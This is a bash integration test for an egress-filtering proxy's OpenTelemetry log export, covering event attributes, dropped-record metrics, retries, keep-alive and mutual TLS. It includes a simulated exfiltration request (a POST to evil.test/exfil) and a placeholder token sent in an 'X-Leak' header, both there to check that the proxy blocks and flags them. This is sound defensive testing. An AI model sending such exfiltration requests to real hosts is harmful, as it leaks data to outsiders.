#!/bin/bash
# Issue 31, part 3: OpenTelemetry export (docs/otel.md). With OTEL_EXPORTER_OTLP_ENDPOINT set, a
# real airlock sends every audit event as an OTLP log record (http/json) to a collector stand-in
# (otel_collector.py) that checks the envelope per the specification: one record per event of
# the --events file, the attributes of an allowed and a blocked request, the resource, the
# headers, no secret. Then: a dead collector (nothing listens) and a slow one (answers after
# the timeout) cost the requests nothing measurable, memory stays flat over thousands of
# events, the drops are counted in /metrics and said once on stderr; a collector that answers
# 429 then 503 then 200 loses nothing (retried); batches ride one kept-alive connection; an
# https collector (a test CA made here) gets every record, sees the client certificate when one
# is configured, and one with a certificate of another CA, or for another name, gets nothing
# while the failure is counted and not retried; unusable TLS files and malformed headers refuse
# the start.
. "$(dirname "$0")/lib.sh"
t_enter_netns "$@"

REAL="ghp_REALREALREALREALREALREALREALREAL0031"
SURR="ghp_SurrogateSurrogateSurrogate000031"
printf 'domains: ["nginx.test"]\n' > "$T_DIR/allow.yaml"
cat > "$T_DIR/repl.json" <<JSON
{"$SURR": {"value": "$REAL", "scopes": ["nginx.test"], "headers": ["Authorization"],
           "allow_plain_http": true}}
JSON
t_start_resolver || exit 1
t_start_nginx || exit 1
printf 'hello\n' > "$T_DIR/www/hello.txt"

COL_PID=
start_collector() { # start_collector MODE PORT [otel_collector.py's TLS options]
    local mode=$1 port=$2
    shift 2
    COL="$T_DIR/col-$mode-$port-$#-$RANDOM"
    mkdir -p "$COL"
    "$PY" "$AIRLOCK_SRC/tests/integration/otel_collector.py" --listen "127.0.0.2:$port" \
        --mode "$mode" --out "$COL" "$@" 2> "$COL/stderr" &
    COL_PID=$!
    T_PIDS+=($COL_PID)
    t_wait_port 127.0.0.2 "$port"
}
# the collector's requests, and the distinct connections that carried them
col_requests() { wc -l < "$COL/requests.jsonl" 2>/dev/null || echo 0; }
col_conns() {
    "$PY" -c 'import json,sys; print(len({json.loads(l)["conn"] for l in open(sys.argv[1])}))' \
        "$COL/requests.jsonl" 2>/dev/null || echo 0
}
stop_collector() { kill "$COL_PID" 2>/dev/null; wait "$COL_PID" 2>/dev/null; }
metric() { curl -sS -m 5 http://127.0.0.1:9464/metrics | awk -v k="$1" '$1 == k {print $2}'; }
# N keep-alive requests on one connection (curl's URL ranges); prints the seconds they took
burst() {
    local t0 t1
    t0=$(date +%s.%N)
    curl -s -o /dev/null -m 120 "http://nginx.test/hello.txt?n=[1-$1]"
    t1=$(date +%s.%N)
    echo "$t1 - $t0" | bc -l
}

# --- 1. every event, its record, its attributes
start_collector ok 4318 || exit 1
export OTEL_EXPORTER_OTLP_ENDPOINT=http://127.0.0.2:4318
export OTEL_EXPORTER_OTLP_HEADERS='x-test-auth = tok%2Cen%20one ,x-other=b'
export OTEL_SERVICE_NAME=gate-test
export OTEL_RESOURCE_ATTRIBUTES='deployment.environment=ci,team=sec%20ops,service.name=ignored'
export OTEL_BLRP_SCHEDULE_DELAY=200
t_start_airlock "$T_DIR/allow.yaml" --replacements "$T_DIR/repl.json" \
    --events "$T_DIR/events.jsonl" || exit 1
dig +short +time=2 +tries=1 @127.0.0.1 nginx.test A > /dev/null
curl -s -o /dev/null -m 5 -H "Authorization: Bearer $SURR" http://nginx.test/hello.txt?q=1
curl -s -o /dev/null -m 5 -X POST http://evil.test/exfil
curl -s -o /dev/null -m 5 -H "X-Leak: $REAL" http://nginx.test/hello.txt
t_stop_airlock # the flush at exit sends what is queued
stop_collector
t_check "the collector found nothing against the specification" \
    test ! -s "$COL/errors.txt"
[ -s "$COL/errors.txt" ] && head -5 "$COL/errors.txt"
t_eq "one record per event of the --events file" "$(wc -l < "$T_DIR/events.jsonl")" \
    "$(wc -l < "$COL/records.jsonl" 2>/dev/null)"
t_check "the real value is in no record" bash -c "! grep -qF '$REAL' '$COL/records.jsonl'"
"$PY" - "$COL/records.jsonl" "$T_DIR/net.log" "$T_DIR/events.jsonl" > "$T_DIR/check.out" <<'PY'
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
text = [l.rstrip("\n") for l in open(sys.argv[2])]
events = [json.loads(l) for l in open(sys.argv[3])]
def ok(cond, what): print(("ok " if cond else "FAIL ") + what)
r0 = recs[0]
ok(r0["resource"].get("service.name") == "gate-test", "OTEL_SERVICE_NAME wins")
ok(r0["resource"].get("team") == "sec ops", "resource attributes, percent-decoded")
ok(r0["resource"].get("deployment.environment") == "ci", "resource attribute kept")
ok("service.version" in r0["resource"], "service.version")
ok(all(r["scope"].get("name") == "airlock" for r in recs), "scope name airlock")
ok(r0["headers"].get("x-test-auth") == "tok,en one", "header decoded and trimmed")
ok(r0["headers"].get("x-other") == "b", "second header")
ok([r["record"]["body"] for r in recs] == text, "bodies are the text lines, in order")
kinds = [e["kind"] for e in events]
ok(all(r["record"]["attributes"].get("airlock.kind") == k for r, k in zip(recs, kinds)),
   "airlock.kind per record")
def find(pred):
    m = [r["record"] for r in recs if pred(r["record"]["attributes"])]
    return m[0] if m else {"attributes": {}}
a = find(lambda a: a.get("airlock.decision") == "allowed" and a.get("airlock.kind") == "request")
at = a["attributes"]
ok(a.get("severityText") == "INFO" and a.get("severity") == 9, "allowed: INFO 9")
ok(at.get("http.request.method") == "GET", "http.request.method")
ok(at.get("server.address") == "nginx.test", "server.address")
ok(at.get("server.port") == 80, "server.port")
ok(at.get("url.path") == "/hello.txt" and at.get("url.query") == "q=1", "url.path, url.query")
ok(at.get("url.scheme") == "http", "url.scheme")
ok(at.get("http.response.status_code") == 200, "http.response.status_code")
ok(at.get("http.response.body.size") == 6, "http.response.body.size")
ok(at.get("network.peer.address") == "127.0.0.2" and at.get("network.peer.port") == 80,
   "network.peer.address/port from upstream_addr")
ok(at.get("airlock.stage") == "policy" and "allow.yaml" in at.get("airlock.entry", ""),
   "airlock.stage, airlock.entry")
ok(at.get("airlock.annotation.masked") == 1, "airlock.annotation.masked")
b = find(lambda a: a.get("server.address") == "evil.test")
ok(b.get("severityText") == "WARN" and b.get("severity") == 13, "blocked: WARN 13")
ok(b["attributes"].get("http.response.status_code") == 403, "blocked: 403")
ok(b["attributes"].get("http.request.method") == "POST", "blocked: POST")
l = find(lambda a: "airlock.leak.kind" in a)
ok(l["attributes"].get("airlock.leak.entry") is not None, "a leak's entry name")
d = find(lambda a: a.get("airlock.kind") == "dns")
ok(d["attributes"].get("dns.question.name") == "nginx.test", "dns.question.name")
ok(all(int(r["record"]["observed"]) >= int(r["record"]["time"]) for r in recs),
   "observedTimeUnixNano >= timeUnixNano")
PY
while read -r st what; do
    if [ "$st" = ok ]; then t_ok "record: $what"; else t_fail "record: $what"; fi
done < "$T_DIR/check.out"
unset OTEL_EXPORTER_OTLP_HEADERS OTEL_SERVICE_NAME OTEL_RESOURCE_ATTRIBUTES

# --- 2. the speed without a collector, then with a dead and a slow one
unset OTEL_EXPORTER_OTLP_ENDPOINT
t_start_airlock "$T_DIR/allow.yaml" --metrics 127.0.0.1:9464 || exit 1
burst 300 > /dev/null # warm
base=$(burst 1000)
t_stop_airlock
echo "# 1000 keep-alive requests without export: ${base}s"

export OTEL_EXPORTER_OTLP_ENDPOINT=http://127.0.0.2:4399 # nothing listens
export OTEL_BLRP_SCHEDULE_DELAY=100 OTEL_BLRP_EXPORT_TIMEOUT=1500 OTEL_BLRP_MAX_QUEUE_SIZE=50
t_start_airlock "$T_DIR/allow.yaml" --metrics 127.0.0.1:9464 || exit 1
burst 300 > /dev/null
dead=$(burst 1000)
echo "# the same with a dead collector: ${dead}s"
t_check "a dead collector: requests at normal speed (${dead}s vs ${base}s)" \
    test "$(echo "$dead < $base * 2 + 1" | bc -l)" = 1
until_ok '[ "$(metric airlock_otel_log_records_total\{result=\"dropped_export_failed\"\})" -gt 0 ]' 20
full=$(metric 'airlock_otel_log_records_total{result="dropped_queue_full"}')
failed=$(metric 'airlock_otel_log_records_total{result="dropped_export_failed"}')
t_check "dead: drops counted, queue full ($full)" test "${full:-0}" -gt 0
t_check "dead: drops counted, export failed ($failed)" test "${failed:-0}" -gt 0
t_eq "dead: nothing exported" 0 "$(metric 'airlock_otel_log_records_total{result="exported"}')"
until_ok 'grep -q "otel: [0-9]* records dropped" "$T_DIR/airlock.err"' 10
t_eq "dead: one stderr line about the drops (in its interval)" 1 \
    "$(grep -c 'otel: [0-9]* records dropped in the last [0-9]*s (' "$T_DIR/airlock.err")"
t_logged_err() { grep -q "$1" "$T_DIR/airlock.err"; }
t_check "dead: the line says why" t_logged_err 'collector failing: \|queue full'
t_stop_airlock

start_collector slow:5 4318 || exit 1
export OTEL_EXPORTER_OTLP_ENDPOINT=http://127.0.0.2:4318 OTEL_EXPORTER_OTLP_TIMEOUT=300
export OTEL_BLRP_EXPORT_TIMEOUT=1000 OTEL_BLRP_MAX_QUEUE_SIZE=64
t_start_airlock "$T_DIR/allow.yaml" --metrics 127.0.0.1:9464 || exit 1
burst 300 > /dev/null
rss0=$(t_rss_kb "$AIRLOCK_PID")
slow=$(burst 1000)
for i in 1 2 3; do burst 1000 > /dev/null; done
rss1=$(t_rss_kb "$AIRLOCK_PID")
echo "# the same with a slow collector: ${slow}s; RSS ${rss0} kB, after 4000 more events ${rss1} kB"
t_check "a slow collector: requests at normal speed (${slow}s vs ${base}s)" \
    test "$(echo "$slow < $base * 2 + 1" | bc -l)" = 1
if ldd "$AIRLOCK" 2>/dev/null | grep -q libasan; then
    t_not_made "slow: memory flat over 4000 events (${rss0} -> ${rss1} kB)" \
        "ASan's allocator (its quarantine keeps freed memory) makes RSS meaningless"
else
    t_check "slow: memory flat over 4000 events (${rss0} -> ${rss1} kB)" \
        test "$((rss1 - rss0))" -lt 4096
fi
full=$(metric 'airlock_otel_log_records_total{result="dropped_queue_full"}')
t_check "slow: drops counted ($full)" test "${full:-0}" -gt 3000
t0=$SECONDS
t_stop_airlock
t_check "slow: the exit did not hang ($((SECONDS - t0))s)" test $((SECONDS - t0)) -le 7
stop_collector
unset OTEL_EXPORTER_OTLP_TIMEOUT OTEL_BLRP_EXPORT_TIMEOUT OTEL_BLRP_MAX_QUEUE_SIZE

# --- 3. 429, then 503, then 200: retried, nothing lost
start_collector fail:2 4318 || exit 1
export OTEL_BLRP_SCHEDULE_DELAY=100
: > "$T_DIR/events.jsonl"
t_start_airlock "$T_DIR/allow.yaml" --metrics 127.0.0.1:9464 --events "$T_DIR/events.jsonl" || exit 1
for i in 1 2 3 4 5; do curl -s -o /dev/null -m 5 "http://nginx.test/hello.txt?i=$i"; done
until_ok '[ "$(metric airlock_otel_log_records_total\{result=\"exported\"\})" -ge 10 ]' 20
t_eq "retried: two retries (429 with Retry-After, 503)" 2 \
    "$(metric airlock_otel_export_retries_total)"
st=$("$PY" -c 'import json,sys; print(" ".join(str(json.loads(l)["status"]) for l in open(sys.argv[1])))' "$COL/requests.jsonl")
t_check "retried: the collector answered 429, 503, then 200 only ($st)" \
    grep -qE '^429 503 200( 200)*$' <<< "$st"
t_eq "retried: nothing dropped" 0 \
    "$(metric 'airlock_otel_log_records_total{result="dropped_export_failed"}')"
t_stop_airlock
stop_collector
t_eq "retried: the collector got each event once" "$(wc -l < "$T_DIR/events.jsonl")" \
    "$(wc -l < "$COL/records.jsonl")"

# --- 4. keep-alive: many batches, one connection
start_collector ok 4318 || exit 1
export OTEL_BLRP_SCHEDULE_DELAY=100 OTEL_BLRP_MAX_EXPORT_BATCH_SIZE=4
t_start_airlock "$T_DIR/allow.yaml" --metrics 127.0.0.1:9464 || exit 1
for i in $(seq 1 6); do
    curl -s -o /dev/null -m 5 "http://nginx.test/hello.txt?k=[1-6]"
    until_ok '[ "$(col_requests)" -ge $((i * 1)) ]' 10
done
until_ok '[ "$(metric airlock_otel_log_records_total\{result=\"exported\"\})" -ge 36 ]' 20
t_check "keep-alive: several batches sent ($(col_requests))" test "$(col_requests)" -ge 9
t_eq "keep-alive: all of them over one TCP connection" 1 "$(col_conns)"
t_stop_airlock
stop_collector
# a collector that closes idle connections: the next batch goes on a new one, nothing lost
start_collector ok 4318 --idle-close 0.3 || exit 1
: > "$T_DIR/events.jsonl"
t_start_airlock "$T_DIR/allow.yaml" --metrics 127.0.0.1:9464 --events "$T_DIR/events.jsonl" || exit 1
for i in 1 2 3; do
    curl -s -o /dev/null -m 5 "http://nginx.test/hello.txt?c=[1-6]"
    until_ok '[ "$(col_requests)" -ge "$((i * 2))" ]' 10
    sleep 0.6 # longer than the collector keeps an idle connection
done
t_eq "idle-closed: no export retried" 0 "$(metric airlock_otel_export_retries_total)"
t_stop_airlock
stop_collector
t_eq "idle-closed: every event delivered" "$(wc -l < "$T_DIR/events.jsonl")" \
    "$(wc -l < "$COL/records.jsonl")"
t_eq "idle-closed: nothing dropped" 0 "$(grep -c 'records dropped' "$T_DIR/airlock.err")"
t_check "idle-closed: a new connection after each idle close ($(col_conns))" \
    test "$(col_conns)" -ge 3
unset OTEL_BLRP_MAX_EXPORT_BATCH_SIZE

# --- 5. https: a test CA, a collector certificate for 127.0.0.2, a client certificate
t_upstream_ca
t_upstream_cert "IP:127.0.0.2" "$T_DIR/col-good"
t_upstream_cert "DNS:otel.test" "$T_DIR/col-name" # right CA, wrong name
t_upstream_cert "IP:127.0.0.2" "$T_DIR/col-self" self # another CA (its own)
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=airlock-exporter" \
    -keyout "$T_DIR/client.key" -out "$T_DIR/client.csr" > /dev/null 2>&1
printf 'extendedKeyUsage=clientAuth\n' > "$T_DIR/client.ext"
openssl x509 -req -in "$T_DIR/client.csr" -CA "$T_DIR/upca.pem" -CAkey "$T_DIR/upca.key" \
    -CAcreateserial -days 30 -extfile "$T_DIR/client.ext" -out "$T_DIR/client.pem" > /dev/null 2>&1

start_collector ok 4318 --tls-cert "$T_DIR/col-good.pem" --tls-key "$T_DIR/col-good.key" \
    --client-ca "$T_DIR/upca.pem" || exit 1
export OTEL_EXPORTER_OTLP_ENDPOINT=https://127.0.0.2:4318
export OTEL_EXPORTER_OTLP_CERTIFICATE=$T_DIR/upca.pem
export OTEL_EXPORTER_OTLP_LOGS_CLIENT_CERTIFICATE=$T_DIR/client.pem
export OTEL_EXPORTER_OTLP_LOGS_CLIENT_KEY=$T_DIR/client.key
export OTEL_BLRP_MAX_EXPORT_BATCH_SIZE=4
: > "$T_DIR/events.jsonl"
t_start_airlock "$T_DIR/allow.yaml" --metrics 127.0.0.1:9464 --events "$T_DIR/events.jsonl" || exit 1
for i in 1 2 3; do
    curl -s -o /dev/null -m 5 "http://nginx.test/hello.txt?t=[1-5]"
    until_ok '[ "$(col_requests)" -ge "$i" ]' 10
done
t_stop_airlock
stop_collector
t_eq "https: every event arrived over TLS" "$(wc -l < "$T_DIR/events.jsonl")" \
    "$(wc -l < "$COL/records.jsonl" 2>/dev/null)"
t_check "https: the collector found nothing against the specification" test ! -s "$COL/errors.txt"
t_check "https: several batches ($(col_requests))" test "$(col_requests)" -ge 3
t_eq "https: all of them over one TLS connection" 1 "$(col_conns)"
t_eq "https: the client certificate was presented on every request" "client=airlock-exporter" \
    "$("$PY" -c 'import json,sys; print(" ".join(sorted({"client=" + json.loads(l)["client"] for l in open(sys.argv[1])})))' "$COL/requests.jsonl")"
unset OTEL_EXPORTER_OTLP_LOGS_CLIENT_CERTIFICATE OTEL_EXPORTER_OTLP_LOGS_CLIENT_KEY

# a collector whose certificate another CA signed, then one for another name: nothing is sent
for bad in self name; do
    start_collector ok 4318 --tls-cert "$T_DIR/col-$bad.pem" --tls-key "$T_DIR/col-$bad.key" ||
        exit 1
    t_start_airlock "$T_DIR/allow.yaml" --metrics 127.0.0.1:9464 || exit 1
    curl -s -o /dev/null -m 5 "http://nginx.test/hello.txt?b=[1-5]"
    t_eq "https, $bad: the requests themselves are served" 200 \
        "$(curl -s -o /dev/null -w '%{http_code}' -m 5 http://nginx.test/hello.txt)"
    until_ok '[ "$(metric airlock_otel_log_records_total\{result=\"dropped_export_failed\"\})" -gt 0 ]' 20
    t_check "https, $bad: the failure counted in /metrics" \
        test "$(metric 'airlock_otel_log_records_total{result="dropped_export_failed"}')" -gt 0
    t_eq "https, $bad: nothing exported" 0 \
        "$(metric 'airlock_otel_log_records_total{result="exported"}')"
    t_eq "https, $bad: no export retried (the same certificate would come back)" 0 \
        "$(metric airlock_otel_export_retries_total)"
    t_stop_airlock
    stop_collector
    t_check "https, $bad: the collector got no request" test ! -s "$COL/requests.jsonl"
    t_check "https, $bad: it saw the handshake fail" test -s "$COL/handshake_failures.txt"
    t_check "https, $bad: stderr says the certificate failed verification" \
        grep -q "otel: [0-9]* records dropped .*certificate verify failed" "$T_DIR/airlock.err"
done
[ -s "$T_DIR/airlock.err" ] && grep "otel:" "$T_DIR/airlock.err" | head -2
unset OTEL_BLRP_MAX_EXPORT_BATCH_SIZE

# --- 6. refused at start-up
run_refused() { # run_refused: airlock run with the environment as it is; prints its stderr
    "$AIRLOCK" run --proxy-ip 127.0.0.1 --upstream-dns 127.0.0.53 --allowlist "$T_DIR/allow.yaml" \
        --log "$T_DIR/x.log" --listen-dns off --listen-http 127.0.0.1:8080 --listen-https off 2>&1
}
export OTEL_EXPORTER_OTLP_CERTIFICATE=$T_DIR/nonexistent.pem
out=$(run_refused)
t_eq "https: a CA file that cannot be read refuses the start" 1 "$?"
t_contains "... naming the variable" "$out" "OTEL_EXPORTER_OTLP_CERTIFICATE"
export OTEL_EXPORTER_OTLP_CERTIFICATE=$T_DIR/upca.pem OTEL_EXPORTER_OTLP_CLIENT_CERTIFICATE=$T_DIR/client.pem
out=$(run_refused)
t_contains "https: a client certificate without its key refuses the start" "$out" \
    "OTEL_EXPORTER_OTLP_CLIENT_CERTIFICATE: set without OTEL_EXPORTER_OTLP_CLIENT_KEY"
export OTEL_EXPORTER_OTLP_CLIENT_KEY=$T_DIR/col-good.key # another certificate's key
out=$(run_refused)
t_contains "https: a key that is not the certificate's refuses the start" "$out" \
    "OTEL_EXPORTER_OTLP_CLIENT_KEY: cannot use"
unset OTEL_EXPORTER_OTLP_CERTIFICATE OTEL_EXPORTER_OTLP_CLIENT_CERTIFICATE OTEL_EXPORTER_OTLP_CLIENT_KEY
export OTEL_EXPORTER_OTLP_ENDPOINT=ftp://127.0.0.2:4318
out=$(run_refused)
t_contains "a scheme other than http(s) refused" "$out" "want http[s]://"
export OTEL_EXPORTER_OTLP_ENDPOINT=http://127.0.0.2:4318 OTEL_EXPORTER_OTLP_HEADERS='Bad Name=x'
out=$(run_refused)
t_contains "a malformed header refused" "$out" "OTEL_EXPORTER_OTLP_HEADERS"
t_done
